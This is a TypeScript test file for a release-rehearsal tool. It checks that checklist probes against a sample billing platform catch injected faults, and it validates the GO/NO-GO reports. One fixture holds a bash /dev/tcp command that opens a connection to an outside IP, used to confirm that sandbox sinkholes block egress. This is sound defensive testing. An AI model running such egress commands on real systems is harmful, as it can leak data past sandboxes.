import t from 'tap';
import { execFile } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { parseDocument } from 'yaml';
import { Ajv } from 'ajv';
import { PROJECT_ROOT } from '../helpers/plan-fixture.js';
import { makeSample, NODE_TS, REHEARSE } from '../helpers/sample-fixture.js';
import { APP_SWITCHES } from '../../sample-platform/apps/switches.js';
import type { Report } from '../../src/report/model.js';

/**
 * The example plan's checklist probes, rehearsed for real: the unchanged candidate passes every
 * probe (GO), and one rehearsal with six portal, import and job switches on gives NO-GO with
 * each switch caught by its own probe and nothing else failing. The second also carries a probe
 * that reaches a switch sinkhole, which must fail as an attempt to leave. A third, with only the
 * sign-up and provisioning items, has the worker send every request twice: a switch the idle
 * worker of the second would hide. Three rehearsals, at once.
 */
t.setTimeout(110_000);
const sample = makeSample(120, 4);
t.teardown(() => sample.cleanup());
const run = promisify(execFile);

/** Each switch and the one probe that must catch it (mutants/sample-platform.yaml says the same). */
const CAUGHT_BY: Readonly<Record<string, string>> = {
  'portal-balance-in-cents': 'checklist.portal-summary.1-http',
  'signup-without-package': 'checklist.sign-up.2-sql',
  'contact-update-not-saved': 'checklist.contact-update.2-http',
  'ticket-edit-fails': 'checklist.tickets.2-http',
  'import-skips-last-row': 'checklist.usage-import.1-command',
  'provisioning-job-idle': 'checklist.provisioning-outside-billing.1-job',
};

const ESCAPE = { id: 'escape', title: 'A probe that tries to leave', probes: [{ title: 'talk to a switch', command: { run: "bash -c 'echo hello > /dev/tcp/192.0.2.10/2208'" } }] };

async function rehearse(name: string, faults: readonly string[], extraItem?: object, items: true | readonly string[] = true): Promise<{ code: number; report: Report }> {
  const plan = sample.plan(name, { faults: [...faults], probes: items });
  if (extraItem !== undefined) {
    const doc = parseDocument(readFileSync(plan, 'utf8'));
    doc.addIn(['checklist'], doc.createNode(extraItem));
    writeFileSync(plan, doc.toString());
  }
  const [node, ...loader] = NODE_TS;
  let code = 0;
  let stdout: string;
  try {
    stdout = (await run(node, [...loader, REHEARSE, '--json', 'all', plan], { encoding: 'utf8', timeout: 100_000 })).stdout;
  } catch (error) {
    const e = error as { code?: number; stdout?: string; stderr?: string };
    code = typeof e.code === 'number' ? e.code : -1;
    stdout = e.stdout ?? '';
    if (stdout === '') throw new Error(`rehearsal ${name} gave no JSON: ${e.stderr ?? String(error)}`, { cause: error });
  }
  const { report } = JSON.parse(stdout) as { report: string };
  return { code, report: JSON.parse(readFileSync(join(dirname(report), 'report.json'), 'utf8')) as Report };
}

/** An idle worker sends nothing, so one that sends twice is rehearsed on its own. */
const TWICE = 'worker-provisions-twice';
const [clean, faulty, twice] = await Promise.all([
  rehearse('clean', []),
  rehearse('switches', APP_SWITCHES.filter((s) => s !== TWICE), ESCAPE),
  rehearse('twice', [TWICE], undefined, ['sign-up', 'provisioning-outside-billing']),
]);

t.test('the unchanged candidate passes every probe and ends GO', async (t) => {
  t.equal(clean.code, 0);
  t.equal(clean.report.verdict, 'GO', clean.report.verdictReason);
  const probed = clean.report.checklist.filter((i) => (i.probes ?? []).length > 0);
  t.ok(probed.length >= 6, `${probed.length} items proved by probes`);
  t.ok(probed.every((i) => i.status === 'passed' && i.probes?.every((p) => p.status === 'passed')));
  t.equal(clean.report.checks.find((c) => c.id === 'probes-no-egress')?.status, 'passed');
  const summary = clean.report.checks.find((c) => c.id === 'checklist.portal-summary.1-http');
  t.ok(summary?.evidence?.some((e) => e.request === 'GET /api/accounts/ACC-000008/summary'), 'the request is in the evidence');
  t.notMatch(JSON.stringify(summary?.evidence), /"name":"[^«]/, "the account's name is withheld");
});

t.test('every portal, import and job switch is caught by its own probe, and by nothing else', async (t) => {
  t.equal(faulty.code, 1);
  t.equal(faulty.report.verdict, 'NO-GO');
  t.ok(faulty.report.stages.every((s) => s.status === 'passed'), 'the pipeline itself ran through');
  for (const [name, id] of Object.entries(CAUGHT_BY)) t.equal(faulty.report.checks.find((c) => c.id === id)?.status, 'failed', `${name} caught by ${id}`);
  const failed = faulty.report.checks.filter((c) => c.status === 'failed').map((c) => c.id).sort();
  const expected = [...Object.values(CAUGHT_BY), 'checklist.provisioning-outside-billing.2-sql', 'checklist.escape.1-command'].sort();
  t.same(failed, expected, 'only the probes fail: the bill run never sees these switches');
  const check = (id: string) => faulty.report.checks.find((c) => c.id === id)?.summary ?? '';
  t.match(check('checklist.portal-summary.1-http'), /expected \$\.balance = "\d+\.\d\d", got \d+/);
  t.match(check('checklist.tickets.2-http'), /expected status 200, got status 500/);
  t.match(check('checklist.usage-import.1-command'), /expected \$\.imported = 3, got 2/);
  t.match(check('checklist.provisioning-outside-billing.1-job'), /expected provisioning ≥ 1, got 0/);
  const items = new Map(faulty.report.checklist.map((i) => [i.id, i]));
  t.equal(items.get('sign-up')?.status, 'failed');
  t.same(items.get('sign-up')?.probes?.map((p) => p.status), ['passed', 'failed'], 'sign-up answered; its package is what is missing');
});

t.test("report.json with the checklist's probes validates against the report schema", async (t) => {
  const validate = new Ajv({ allErrors: true, strict: true, allowUnionTypes: true }).compile(JSON.parse(readFileSync(join(PROJECT_ROOT, 'src/report/report.schema.json'), 'utf8')) as object);
  for (const { report } of [clean, faulty, twice]) t.ok(validate(report), JSON.stringify(validate.errors?.slice(0, 3)));
});

t.test('a probe that tries to leave the sandbox lands in the ledger and fails', async (t) => {
  const summary = faulty.report.checks.find((c) => c.id === 'checklist.escape.1-command')?.summary;
  t.match(summary, /tried to leave the sandbox: provisioning to 192\.0\.2\.10:2208 \(caught by the sinkholes\)/);
  t.equal(faulty.report.checks.find((c) => c.id === 'probes-no-egress')?.status, 'passed', 'the kernel counted nothing leaving');
});

t.test('a worker that provisions every pending change twice is NO-GO through the job probe, which a count alone would pass', async (t) => {
  t.equal(twice.code, 1);
  t.equal(twice.report.verdict, 'NO-GO');
  t.ok(twice.report.stages.every((s) => s.status === 'passed'), 'the pipeline itself ran through');
  const job = 'checklist.provisioning-outside-billing.1-job';
  t.same(twice.report.checks.filter((c) => c.status === 'failed').map((c) => c.id), [job], 'only the job probe fails: every package is marked done once, so the sql probe after it passes');
  const check = twice.report.checks.find((c) => c.id === job);
  const [, listed, sent] = /expected provisioning to exactly the (\d+) account row\(s\) the query listed, got (\d+) attempt\(s\)/.exec(check?.summary ?? '') ?? [];
  t.ok(Number(listed) > 0 && Number(sent) === 2 * Number(listed), `every listed change sent twice: ${check?.summary}`);
  t.match(check?.summary, /sent to more often than listed: .*WEB-\d+ \(2 for 1\)/, "the sign-up's account among them");
  t.notMatch(check?.summary, /missing|not listed|naming no account/, 'twice, and nothing else wrong');
  // The plan's `min: 1` is judged too, on the same attempts: met, so that expectation alone (the
  // example plan's before `accounts`) would have let this worker through.
  t.match(check?.evidence?.find((e) => e.expected === 'provisioning ≥ 1'), { met: true });
  t.match(check?.evidence?.find((e) => typeof e.expected === 'string' && e.expected.startsWith('provisioning to exactly')), { met: false });
  t.equal(clean.report.checks.find((c) => c.id === job)?.evidence?.find((e) => typeof e.expected === 'string' && e.expected.startsWith('provisioning to exactly'))?.met, true, 'the unchanged worker provisions exactly the pending changes');
});
